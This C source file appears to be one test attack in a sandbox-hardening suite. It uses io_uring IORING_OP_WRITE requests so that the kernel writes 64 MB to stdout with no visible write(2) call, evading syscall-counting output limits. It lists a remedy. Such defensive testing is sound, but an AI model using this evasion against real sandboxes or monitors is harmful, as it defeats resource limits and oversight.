// SPDX-License-Identifier: MIT
/*
 * io-uring.c - written by the kernel, at the program's request.
 *
 * Goal:  more output than the budget.
 * Means: the requests lie in memory that is shared with the kernel. The one system call that is
 *        seen, io_uring_enter(2), has neither a descriptor that is written to nor a length.
 */
#include "attacks/attack.h"
#include "attacks/filter-evasion/ring.h"

#include <stdint.h>
#include <unistd.h>

#define PIECE (1 << 20)
#define BYTES (64 << 20)

static enum claim run(const struct brief *b)
{
	static char lines[PIECE];
	struct ring ring;
	int done = 0;

	for (int i = 0; i < PIECE; i++)
		lines[i] = i % 64 == 63 ? '\n' : 'x';
	attempting(b);
	if (ring_open(&ring) < 0)
		return denied("io_uring_setup");
	while (done < BYTES) {
		int n = ring_do(&ring, (struct io_uring_sqe){ .opcode = IORING_OP_WRITE,
							      .fd = STDOUT_FILENO,
							      .addr = (uintptr_t)lines,
							      .len = PIECE });

		if (n <= 0)
			return denied("io_uring write");
		done += n;
	}
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "more output than the budget",
	.means = "IORING_OP_WRITE: the kernel writes, no write(2) is called",
	.oracle = "usage:output",
	.needs = NEED_IO_URING,
	.attack_id = "T1499.003, CWE-400",
	.remedy = "count where it is read; deny io_uring_setup(2)",
	.refs = (const char *const[]){ "io_uring(7)", NULL },
	.run = run,
};
